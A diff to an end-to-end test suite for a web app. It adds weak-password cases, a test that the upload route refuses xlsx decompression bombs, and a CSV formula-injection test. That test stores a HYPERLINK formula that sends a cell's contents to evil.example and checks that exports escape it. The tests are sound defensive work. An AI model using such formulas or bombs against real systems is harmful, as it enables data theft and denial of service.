@@ -9,6 +9,8 @@ import { actionResult, callAction, listBuiltActions, type ParsedResult } from '.
 import { dataChecksum, one } from './db';
 import { authFile } from './helpers';
 import { E2E_BASE } from './ports';
+import { e2eServerPid, serverRssMb } from './proc';
+import { xlsxBomb } from '../lib/testing/make-zip';
 
 const BASE = E2E_BASE;
 const UNKNOWN = 999_999_999;
@@ -243,6 +245,11 @@ function samples(): Record<string, Sample> {
           args: [{ loginId: 'bad-input-user', displayName: 'x', role: 'staff', departmentIds: [], password: 'short' }],
           expect: ['invalid'],
         },
+        ...['aaaaaaaaaa', 'qwertyuiop', 'password123', 'bad-input-user-2026'].map((weak) => ({
+          label: `weak password ${weak}`,
+          args: [{ loginId: 'bad-input-user', displayName: 'x', role: 'staff', departmentIds: [], password: weak }],
+          expect: ['invalid'],
+        })),
         {
           label: 'unknown role',
           args: [{ loginId: 'bad-input-user', displayName: 'x', role: 'root', departmentIds: [], password: 'long-enough-password' }],
@@ -721,13 +728,64 @@ test('bad uploads to the actuals upload route are refused and change nothing', a
   for (const [label, url, body, status, code] of uploads) {
     const res = await api.post(url, body);
     expect(res.status(), label).toBe(status);
-    const json = (await res.json()) as { ok?: boolean; code?: string; error?: string };
+    const json = (await res.json()) as { ok?: boolean; code?: string; error?: string; message?: string };
     expect(json.ok, label).not.toBe(true);
     if (code) expect(json.code, label).toBe(code);
     else expect(json.error, label).toBe('not_found');
+    expect(json.message, label).toMatch(JAPANESE);
   }
   expect(dataChecksum()).toEqual(before);
   console.log(`bad-input: ${uploads.length} bad uploads refused with 4xx`);
+  await api.dispose();
+});
+
+test('an xlsx decompression bomb is refused at once; the server keeps answering and its memory stays low', async () => {
+  const api = await request.newContext({ baseURL: BASE, storageState: authFile('admin') });
+  const server = e2eServerPid();
+  const before = dataChecksum();
+  const bombs: [string, Buffer][] = [
+    ['a sheet that unpacks to 300 MB', xlsxBomb(300)],
+    ['a sheet that says 1 kB and unpacks to 300 MB', xlsxBomb(300, { lie: true })],
+  ];
+  let peakRss = serverRssMb(server);
+  for (const [label, bomb] of bombs) {
+    expect(bomb.length, label).toBeLessThan(2 * MB);
+    // /api/health is asked every 100 ms while the upload is read: it must keep answering.
+    let uploading = true;
+    let slowestHealth = 0;
+    const health = (async () => {
+      while (uploading) {
+        const t0 = Date.now();
+        const res = await fetch(`${BASE}/api/health`);
+        expect(res.status).toBe(200);
+        slowestHealth = Math.max(slowestHealth, Date.now() - t0);
+        peakRss = Math.max(peakRss, serverRssMb(server));
+        await new Promise((r) => setTimeout(r, 100));
+      }
+    })();
+    const t0 = Date.now();
+    const res = await api.post('/api/years/2025/actuals/upload', {
+      multipart: {
+        file: { name: 'actuals.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: bomb },
+      },
+    });
+    const took = Date.now() - t0;
+    uploading = false;
+    await health;
+    peakRss = Math.max(peakRss, serverRssMb(server));
+    const json = (await res.json()) as { ok?: boolean; code?: string; message?: string };
+    expect(res.status(), label).toBe(413);
+    expect(json.code, label).toBe('too_large_unpacked');
+    expect(json.message, label).toMatch(JAPANESE);
+    expect(took, `${label}: refused in ${took} ms`).toBeLessThan(2000);
+    expect(slowestHealth, `${label}: /api/health answered within ${slowestHealth} ms`).toBeLessThan(2000);
+    console.log(
+      `bad-input: ${label} (${(bomb.length / 1024).toFixed(0)} kB) refused in ${took} ms; slowest /api/health ${slowestHealth} ms`,
+    );
+  }
+  expect(peakRss, `server RSS peaked at ${peakRss.toFixed(0)} MB`).toBeLessThan(600);
+  console.log(`bad-input: server RSS peak ${peakRss.toFixed(0)} MB during the bombs`);
+  expect(dataChecksum()).toEqual(before);
   await api.dispose();
 });
 
@@ -781,4 +839,30 @@ test('a script payload saved as a narrative renders as text on the section page 
     await api.dispose();
   }
   expect(one<{ narrative: string }>('SELECT narrative FROM self_assessments WHERE section_id = ?', id).narrative).toBe(original);
+});
+
+test('text that starts like a formula is written to every CSV as text, not as a formula', async () => {
+  const api = await request.newContext({ baseURL: BASE, storageState: authFile('admin') });
+  const byName = new Map(listBuiltActions().map((a) => [a.name, a.id]));
+  const payload = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
+  const save = await callAction(api, byName.get('saveFinancialLine')!, [
+    { planId: planId(2025), fiscalYear: 2025, name: payload, sectionId: null, priorAmount: '' },
+  ]);
+  const saved = actionResult(save.body);
+  expect(saved?.ok, save.body.slice(0, 300)).toBe(true);
+  const lineId = (saved!.data as { id: number }).id;
+  try {
+    for (const url of ['/years/2025/report.csv', '/api/years/2025/actuals/csv']) {
+      const res = await api.get(url);
+      expect(res.status(), url).toBe(200);
+      const csv = await res.text();
+      // No cell anywhere starts with a formula character (a cell starts the line or follows a comma).
+      expect(csv, url).not.toMatch(/(^|[\r\n,])"?[=+@]/);
+      if (url.endsWith('report.csv')) expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
+    }
+  } finally {
+    const del = await callAction(api, byName.get('removeFinancialLine')!, [{ id: lineId }]);
+    expect(actionResult(del.body)?.ok, del.body.slice(0, 300)).toBe(true);
+    await api.dispose();
+  }
 });
